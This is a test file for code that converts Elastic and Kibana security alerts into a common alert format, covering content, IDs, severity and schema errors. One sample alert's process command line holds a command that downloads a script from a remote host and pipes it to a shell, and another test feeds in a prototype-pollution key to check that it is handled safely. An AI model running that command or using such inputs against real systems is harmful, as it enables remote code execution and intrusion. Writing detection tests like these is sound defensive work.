import { describe, expect, it } from "vitest";
import { alertSchema } from "../../lib/alert/schema";
import { elasticSource, severityFromRiskScore } from "../../lib/sources/elastic";
import { expandDottedKeys } from "../../lib/sources/elastic-ecs";
import { parsePayload } from "../../lib/sources/parse";
import { normalizeBody } from "./delivery-fuzz";
import { caught, describeDeliveryProperties, fixture, idOf, normalizeRecorded, type Json } from "./source-test-kit";

const STACK = "elastic/kibana-stack-rule.json";
const STACK_RECOVERED = "elastic/kibana-stack-rule-recovered.json";
const PER_ALERT = "elastic/security-per-alert.json";
const SUMMARY = "elastic/security-summary-3-alerts.json";
const FLATTENED = "elastic/security-flattened-fields.json";

describe("elasticSource golden content", () => {
  it("normalizes a Kibana stack rule action", () => {
    const alerts = normalizeBody(elasticSource, fixture(STACK));

    expect(alerts).toStrictEqual([
      {
        source: "elastic",
        scope: "default",
        key: "6f0c1d2e-4b5a-4c3d-9e8f-1a2b3c4d5e6f",
        episode: "3c9f1e2d-7a6b-4c5d-8e9f-0a1b2c3d4e5f",
        status: "firing",
        content: {
          title: "Failed VPN logins > 20 in 5m",
          description: "Document count is 37 in the last 5m in logs-vpn-* index. Alert when greater than 20.",
          severity: "High",
          first_observed_time: "2024-05-14T10:20:05.117Z",
          last_observed_time: "2024-05-14T10:20:05.311Z",
          create_time: "2024-05-14T16:00:00.000Z",
          data_source: {
            source_type: 2,
            product_name: "Kibana",
            company_name: "Elastic",
            product_feature: ".es-query",
            product_module: "default",
          },
          alert_type: {
            alert_type: ".es-query",
          },
          labels: "vpn,auth,severity:high,alert_id=query matched",
          source_url: "https://kibana.example.com/app/discover#/viewAlert/6f0c1d2e-4b5a-4c3d-9e8f-1a2b3c4d5e6f?from=2024-05-14T10:15:05.117Z&to=2024-05-14T10:20:05.117Z",
          count: 2,
          handle_status: "Open",
          verification_state: "Unknown",
        },
      },
    ]);
  });

  it("normalizes a Kibana stack rule recovery", () => {
    const alerts = normalizeBody(elasticSource, fixture(STACK_RECOVERED));

    expect(alerts).toStrictEqual([
      {
        source: "elastic",
        scope: "default",
        key: "6f0c1d2e-4b5a-4c3d-9e8f-1a2b3c4d5e6f",
        episode: "3c9f1e2d-7a6b-4c5d-8e9f-0a1b2c3d4e5f",
        status: "resolved",
        content: {
          title: "Failed VPN logins > 20 in 5m",
          description: "Document count is 4 in the last 5m in logs-vpn-* index. Alert when greater than 20.",
          severity: "High",
          last_observed_time: "2024-05-14T10:35:05.402Z",
          create_time: "2024-05-14T16:00:00.000Z",
          data_source: {
            source_type: 2,
            product_name: "Kibana",
            company_name: "Elastic",
            product_feature: ".es-query",
            product_module: "default",
          },
          alert_type: {
            alert_type: ".es-query",
          },
          labels: "vpn,auth,severity:high,alert_id=query matched",
          source_url: "https://kibana.example.com/app/discover#/viewAlert/6f0c1d2e-4b5a-4c3d-9e8f-1a2b3c4d5e6f?from=2024-05-14T10:30:05.204Z&to=2024-05-14T10:35:05.204Z",
          count: 1,
          handle_status: "Closed",
          verification_state: "Unknown",
        },
      },
    ]);
  });

  it("normalizes a per-alert Elastic Security action", () => {
    const alerts = normalizeBody(elasticSource, fixture(PER_ALERT));

    expect(alerts).toStrictEqual([
      {
        source: "elastic",
        scope: "default",
        key: "c0ffee5e1d2b3a4f5e6d7c8b9a0f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7",
        episode: "",
        status: "firing",
        content: {
          title: "SSH brute force followed by successful login",
          description: "authentication event with source 198.51.100.23 by root on web-02.example.com created high alert SSH brute force followed by successful login.",
          severity: "High",
          confidence: 73,
          first_observed_time: "2024-05-14T10:22:31.004Z",
          last_observed_time: "2024-05-14T10:23:02.551Z",
          create_time: "2024-05-14T16:00:00.000Z",
          data_source: {
            source_type: 2,
            product_name: "Elastic Security",
            company_name: "Elastic",
            product_feature: "eql",
            product_module: "system",
          },
          alert_type: {
            category: "Credential Access",
            alert_type: "Brute Force (T1110)",
          },
          network_list: [
            {
              src_ip: "198.51.100.23",
              src_port: 40188,
            },
          ],
          resource_list: [
            {
              name: "web-02.example.com",
              tags: {
                ip: "192.0.2.41",
                os: "debian",
              },
            },
          ],
          user_info: [
            {
              user_name: "root",
            },
          ],
          labels: "Domain: Endpoint,Tactic: Credential Access",
          source_url: "https://kibana.example.com/app/security/alerts/redirect/c0ffee5e1d2b3a4f5e6d7c8b9a0f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7?index=.alerts-security.alerts-default&timestamp=2024-05-14T10:23:02.551Z",
          count: 1,
          handle_status: "Open",
          verification_state: "Unknown",
        },
      },
    ]);
  });

  it("summary splits into alerts", () => {
    const alerts = normalizeBody(elasticSource, fixture(SUMMARY));

    expect(alerts).toStrictEqual([
      {
        source: "elastic",
        scope: "default",
        key: "c0ffee5e1d2b3a4f5e6d7c8b9a0f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7",
        episode: "",
        status: "firing",
        content: {
          title: "SSH brute force followed by successful login",
          description: "authentication event with source 198.51.100.23 by root on web-02.example.com created high alert SSH brute force followed by successful login.",
          severity: "High",
          confidence: 73,
          first_observed_time: "2024-05-14T10:22:31.004Z",
          last_observed_time: "2024-05-14T10:23:02.551Z",
          create_time: "2024-05-14T16:00:00.000Z",
          data_source: {
            source_type: 2,
            product_name: "Elastic Security",
            company_name: "Elastic",
            product_feature: "eql",
            product_module: "system",
          },
          alert_type: {
            category: "Credential Access",
            alert_type: "Brute Force (T1110)",
          },
          network_list: [
            {
              src_ip: "198.51.100.23",
              src_port: 40188,
            },
          ],
          resource_list: [
            {
              name: "web-02.example.com",
              tags: {
                ip: "192.0.2.41",
                os: "debian",
              },
            },
          ],
          user_info: [
            {
              user_name: "root",
            },
          ],
          labels: "Domain: Endpoint,Tactic: Credential Access",
          source_url: "https://kibana.example.com/app/security/alerts/redirect/c0ffee5e1d2b3a4f5e6d7c8b9a0f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7?index=.alerts-security.alerts-default&timestamp=2024-05-14T10:23:02.551Z",
          count: 1,
          handle_status: "Open",
          verification_state: "Unknown",
        },
      },
      {
        source: "elastic",
        scope: "default",
        key: "0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c",
        episode: "",
        status: "firing",
        content: {
          title: "SSH brute force followed by successful login",
          description: "authentication event with source 203.0.113.140 by Zoë Ångström on файл-сервер-01 created high alert SSH brute force followed by successful login.",
          severity: "High",
          confidence: 73,
          first_observed_time: "2024-05-14T10:22:48.912Z",
          last_observed_time: "2024-05-14T10:23:02.551Z",
          create_time: "2024-05-14T16:00:00.000Z",
          data_source: {
            source_type: 2,
            product_name: "Elastic Security",
            company_name: "Elastic",
            product_feature: "eql",
            product_module: "system",
          },
          alert_type: {
            category: "Credential Access",
            alert_type: "Brute Force (T1110)",
          },
          network_list: [
            {
              src_ip: "203.0.113.140",
              src_port: 40188,
            },
          ],
          resource_list: [
            {
              name: "файл-сервер-01",
              tags: {
                ip: "192.0.2.41",
                os: "debian",
              },
            },
          ],
          user_info: [
            {
              user_name: "Zoë Ångström",
            },
          ],
          labels: "Domain: Endpoint,Tactic: Credential Access",
          source_url: "https://kibana.example.com/app/security/alerts/redirect/0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c?index=.alerts-security.alerts-default&timestamp=2024-05-14T10:23:02.551Z",
          count: 1,
          handle_status: "Open",
          verification_state: "Unknown",
        },
      },
      {
        source: "elastic",
        scope: "default",
        key: "9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0",
        episode: "",
        status: "firing",
        content: {
          title: "SSH brute force followed by successful login",
          description: "process event with process bash, parent process sshd, on web-02.example.com created critical alert SSH brute force followed by successful login.",
          severity: "Fatal",
          confidence: 99,
          first_observed_time: "2024-05-14T10:22:59.100Z",
          last_observed_time: "2024-05-14T10:23:02.551Z",
          create_time: "2024-05-14T16:00:00.000Z",
          data_source: {
            source_type: 2,
            product_name: "Elastic Security",
            company_name: "Elastic",
            product_feature: "eql",
            product_module: "system",
          },
          alert_type: {
            category: "Credential Access",
            alert_type: "Brute Force (T1110)",
          },
          resource_list: [
            {
              name: "web-02.example.com",
              tags: {
                ip: "192.0.2.41",
                os: "debian",
              },
            },
          ],
          process: [
            {
              process_name: "bash",
              process_path: "/usr/bin/bash",
              process_pid: 31337,
              process_cmdline: "bash -c \"curl -s http://203.0.113.9/x | sh\"",
              process_parent_name: "sshd",
              process_parent_pid: 21877,
            },
          ],
          file_info: [
            {
              file_path: "/usr/bin/bash",
              file_sha256: "3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a",
            },
          ],
          labels: "Domain: Endpoint,Tactic: Credential Access",
          source_url: "https://kibana.example.com/app/security/alerts/redirect/9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0?index=.alerts-security.alerts-default&timestamp=2024-05-14T10:23:02.551Z",
          count: 1,
          handle_status: "Open",
          verification_state: "Unknown",
        },
      },
    ]);
  });

  it("dotted field names", () => {
    const alerts = normalizeBody(elasticSource, fixture(FLATTENED));

    expect(alerts).toStrictEqual([
      {
        source: "elastic",
        scope: "soc",
        key: "5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c",
        episode: "",
        status: "firing",
        content: {
          title: "Outbound connection from a renamed binary",
          description: "network event with process svch0st.exe, source 10.20.4.17:51544, destination 198.51.100.77:4444, by CORP\\svc-build on build-07 created medium alert Outbound connection from a renamed binary.",
          severity: "Medium",
          confidence: 47,
          first_observed_time: "2024-05-14T11:02:31.870Z",
          last_observed_time: "2024-05-14T11:02:40.118Z",
          create_time: "2024-05-14T16:00:00.000Z",
          data_source: {
            source_type: 2,
            product_name: "Elastic Security",
            company_name: "Elastic",
            product_feature: "new_terms",
            product_module: "endpoint",
          },
          alert_type: {
            category: "Command and Control, Defense Evasion",
            alert_type: "Non-Standard Port (T1571), Masquerading (T1036)",
          },
          network_list: [
            {
              direction: "OUT",
              protocol: "tcp",
              src_ip: "10.20.4.17",
              src_port: 51544,
              dest_ip: "198.51.100.77",
              dest_domain: "c2.example.net",
              dest_port: "4444",
              dest_geo: {
                country_code: "ZZ",
                latitude: 12.5,
                longitude: -45.25,
              },
            },
          ],
          resource_list: [
            {
              id: "f1e2d3c4-b5a6-4978-8695-a4b3c2d1e0f9",
              name: "build-07",
              provider: "huaweicloud",
              region_id: "ap-southeast-1",
              domain_id: "0a1b2c3d4e5f60718293a4b5c6d7e8f9",
              tags: {
                ip: "10.20.4.17, fe80::a00:27ff:fe4e:66a1",
                os: "Windows Server 2022",
              },
            },
          ],
          user_info: [
            {
              user_id: "S-1-5-21-1004336348-1177238915-682003330-1107",
              user_name: "svc-build",
            },
          ],
          process: [
            {
              process_name: "svch0st.exe",
              process_path: "C:\\ProgramData\\svch0st.exe",
              process_pid: 6612,
              process_cmdline: "C:\\ProgramData\\svch0st.exe -k netsvcs",
              process_parent_name: "services.exe",
              process_parent_path: "C:\\Windows\\System32\\services.exe",
              process_parent_pid: 712,
              process_launche_time: "2024-05-14T11:01:58.002Z",
            },
          ],
          file_info: [
            {
              file_path: "C:\\ProgramData\\svch0st.exe",
              file_md5: "0cc175b9c0f1b6a831c399e269772661",
              file_sha256: "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
            },
          ],
          malware: {
            malware_family: "ExampleRAT",
            malware_class: "Malware",
          },
          remediation: {
            recommendation: "Isolate the host, collect the binary and check its signer.",
            url: "https://attack.mitre.org/techniques/T1036/003/",
          },
          labels: "Domain: Endpoint,Tactic: Command and Control",
          source_url: "https://kibana.example.com/s/soc/app/security/alerts/redirect/5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c?index=.alerts-security.alerts-soc&timestamp=2024-05-14T11:02:40.118Z",
          count: 5,
          handle_status: "Open",
          verification_state: "Unknown",
        },
      },
    ]);
  });

  it("content passes the Alert schema", () => {
    for (const path of [STACK, STACK_RECOVERED, PER_ALERT, SUMMARY, FLATTENED]) {
      for (const alert of normalizeBody(elasticSource, fixture(path))) {
        expect(alertSchema.safeParse(alert.content).success).toBe(true);
      }
    }
  });
});

describe("elasticSource identity", () => {
  it("pinned action_instance_id values", () => {
    const stack = normalizeBody(elasticSource, fixture(STACK));
    const summary = normalizeBody(elasticSource, fixture(SUMMARY));
    const flattened = normalizeBody(elasticSource, fixture(FLATTENED));

    expect(idOf(stack[0])).toBe("fec1e981-14de-587d-93a7-2b18cc059fb1");
    expect(summary.map(idOf)).toStrictEqual([
      "759aebfe-9ee1-5d18-be0b-6cccfcea0123",
      "b570b542-8e32-5115-9247-9fabc286ac74",
      "f40ad816-df17-53ca-8c7e-18a853a46a07",
    ]);
    expect(idOf(flattened[0])).toBe("462b42da-1044-516e-8265-826c37bc84a9");
  });

  it("stack recovery keeps the firing id", () => {
    const [firing] = normalizeBody(elasticSource, fixture(STACK));
    const [recovered] = normalizeBody(elasticSource, fixture(STACK_RECOVERED));

    expect(idOf(recovered)).toBe(idOf(firing));
  });

  it("new active period gets a new id", () => {
    const body = fixture(STACK);
    body.alert.uuid = "8d7c6b5a-4f3e-4d2c-9b1a-0f9e8d7c6b5a";

    const [alert] = normalizeBody(elasticSource, body);

    expect(alert?.key).toBe("6f0c1d2e-4b5a-4c3d-9e8f-1a2b3c4d5e6f");
    expect(idOf(alert)).not.toBe("fec1e981-14de-587d-93a7-2b18cc059fb1");
  });

  it("summary repeat keeps the id", () => {
    const [perAlert] = normalizeBody(elasticSource, fixture(PER_ALERT));
    const [inSummary] = normalizeBody(elasticSource, fixture(SUMMARY));

    expect(idOf(inSummary)).toBe(idOf(perAlert));
  });

  it("closed alert keeps the id", () => {
    const body = fixture(PER_ALERT);
    body.alerts[0].kibana.alert.workflow_status = "closed";

    const [alert] = normalizeBody(elasticSource, body);

    expect(alert?.status).toBe("resolved");
    expect(alert?.content.handle_status).toBe("Closed");
    expect(idOf(alert)).toBe("759aebfe-9ee1-5d18-be0b-6cccfcea0123");
  });

  it("_id replaces a missing uuid", () => {
    const body = fixture(PER_ALERT);
    delete body.alerts[0].kibana.alert.uuid;

    const [alert] = normalizeBody(elasticSource, body);

    expect(idOf(alert)).toBe("759aebfe-9ee1-5d18-be0b-6cccfcea0123");
  });

  it.each([
    ["alert.uuid", STACK, (body: Json) => delete body.alert.uuid],
    ["rule.id", STACK, (body: Json) => (body.rule.id = "")],
    ["rule.space", STACK, (body: Json) => delete body.rule.space],
    ["alerts[2].kibana.space_ids", SUMMARY, (body: Json) => delete body.alerts[2].kibana.space_ids],
    [
      "alerts[1].kibana.alert.uuid",
      SUMMARY,
      (body: Json) => {
        delete body.alerts[1].kibana.alert.uuid;
        delete body.alerts[1]._id;
      },
    ],
  ])("rejects a delivery without %s", (field, path, mutate) => {
    const body = fixture(path);
    mutate(body);

    const error = caught(() => normalizeBody(elasticSource, body));

    expect(error.code).toBe("BRIDGE.IDENTITY_MISSING");
    expect(error.field).toBe(field);
  });
});

describe("elasticSource severity", () => {
  it.each([
    ["critical", "Fatal"],
    ["high", "High"],
    ["medium", "Medium"],
    ["low", "Low"],
  ])("maps security severity %s to %s", (word, expected) => {
    const body = fixture(PER_ALERT);
    body.alerts[0].kibana.alert.severity = word;

    const { alerts, unknownCalls } = normalizeRecorded(elasticSource, body);

    expect(alerts[0]?.content.severity).toBe(expected);
    expect(unknownCalls).toStrictEqual([]);
  });

  it.each([
    [0, "Tips"],
    [20, "Tips"],
    [21, "Low"],
    [46, "Low"],
    [47, "Medium"],
    [72, "Medium"],
    [73, "High"],
    [98, "High"],
    [99, "Fatal"],
    [100, "Fatal"],
  ])("maps risk score %i to %s", (riskScore, expected) => {
    expect(severityFromRiskScore(riskScore)).toBe(expected);
  });

  it("risk score without severity word", () => {
    const body = fixture(FLATTENED);
    delete body.rule.severity;

    const { alerts, unknownCalls } = normalizeRecorded(elasticSource, body);

    expect(alerts[0]?.content.severity).toBe("Medium");
    expect(unknownCalls).toStrictEqual([]);
  });

  it("unknown security severity", () => {
    const body = fixture(PER_ALERT);
    body.alerts[0].kibana.alert.severity = "urgent";

    const { alerts, unknownCalls } = normalizeRecorded(elasticSource, body);

    expect(unknownCalls).toStrictEqual([{ field: "alerts[0].kibana.alert.severity", value: "urgent" }]);
    expect(alerts[0]?.content.severity).toBe("Low");
  });

  it("stack severity from its tag", () => {
    const body = fixture(STACK);
    body.rule.tags = "vpn,severity:critical";

    const { alerts, unknownCalls } = normalizeRecorded(elasticSource, body);

    expect(alerts[0]?.content.severity).toBe("Fatal");
    expect(alerts[0]?.content.labels).toBe("vpn,severity:critical,alert_id=query matched");
    expect(unknownCalls).toStrictEqual([]);
  });

  it("stack rule without tag asks unknownSeverity", () => {
    const body = fixture(STACK);
    body.rule.tags = ["vpn"];

    const { unknownCalls } = normalizeRecorded(elasticSource, body);

    expect(unknownCalls).toStrictEqual([{ field: "rule.tags", value: undefined }]);
  });
});

describe("elasticSource schema", () => {
  it.each([
    ["alert.action_group", STACK, (body: Json) => delete body.alert.action_group],
    ["alert.consecutive_matches", STACK, (body: Json) => (body.alert.consecutive_matches = "2")],
    ["rule.tags", STACK, (body: Json) => (body.rule.tags = 3)],
    ["alerts[1].kibana.alert.risk_score", SUMMARY, (body: Json) => (body.alerts[1].kibana.alert.risk_score = 130)],
    ["alerts[2].process.pid", SUMMARY, (body: Json) => (body.alerts[2].process.pid = "31337")],
    ["alerts[0].kibana", SUMMARY, (body: Json) => delete body.alerts[0].kibana],
    ["alerts", PER_ALERT, (body: Json) => (body.alerts = { 0: body.alerts[0] })],
    ["alerts[0].kibana.alert.suppression.docs_count", FLATTENED, (body: Json) => (body.alerts[0]["kibana.alert.suppression.docs_count"] = -1)],
  ])("names %s in the error", (field, path, mutate) => {
    const body = fixture(path);
    mutate(body);

    const error = caught(() => parsePayload(elasticSource.schema, body, "elastic"));

    expect(error.code).toBe("BRIDGE.PAYLOAD_INVALID");
    expect(error.field).toBe(field);
  });

  it("body without alert or alerts", () => {
    const error = caught(() => parsePayload(elasticSource.schema, { rule: { id: "x" } }, "elastic"));

    expect(error.code).toBe("BRIDGE.PAYLOAD_INVALID");
    expect(error.field).toBe("(body)");
  });

  it("empty summary gives no alerts", () => {
    const body = fixture(SUMMARY);
    body.alerts = [];

    expect(normalizeBody(elasticSource, body)).toStrictEqual([]);
  });
});

describe("expandDottedKeys", () => {
  it("merges dotted keys into nested objects", () => {
    const expanded = expandDottedKeys({ "kibana.alert.uuid": "a", kibana: { space_ids: ["default"] }, "@timestamp": "t", _id: "a" });

    expect(expanded).toStrictEqual({ kibana: { alert: { uuid: "a" }, space_ids: ["default"] }, "@timestamp": "t", _id: "a" });
  });

  it("__proto__ stays a plain field", () => {
    const expanded = expandDottedKeys(JSON.parse('{"kibana.__proto__.polluted": "yes"}')) as { kibana: object };

    expect(Object.getPrototypeOf(expanded.kibana)).toBe(Object.prototype);
    expect(Object.hasOwn(expanded.kibana, "__proto__")).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("merges, overrides and orders keys", () => {
    const input = JSON.parse(
      '{"kibana.alert.uuid":"u1","kibana":{"alert":{"rule":{"name":"r"}},"space_ids":["default"]},"kibana.alert.rule.id":"rid",' +
        '"@timestamp":"t","_id":"x","host.name":"h","host":"scalar","user":{"name":"a"},"user.name":"b","a..b":1,' +
        '"list":[{"x.y":1},2,[{"p.q":"r"}]],"m":{"n.o":{"p":1}},"m.n":{"o":{"q":2}}}',
    ) as unknown;

    expect(JSON.stringify(expandDottedKeys(input))).toBe(
      '{"kibana":{"alert":{"uuid":"u1","rule":{"name":"r","id":"rid"}},"space_ids":["default"]},"@timestamp":"t","_id":"x",' +
        '"host":"scalar","user":{"name":"b"},"a":{"":{"b":1}},"list":[{"x":{"y":1}},2,[{"p":{"q":"r"}}]],"m":{"n":{"o":{"p":1,"q":2}}}}',
    );
  });
});

describeDeliveryProperties(elasticSource, ["rule", "alert", "alerts", "context", "date", "results_link"], [STACK, STACK_RECOVERED, PER_ALERT, FLATTENED]);
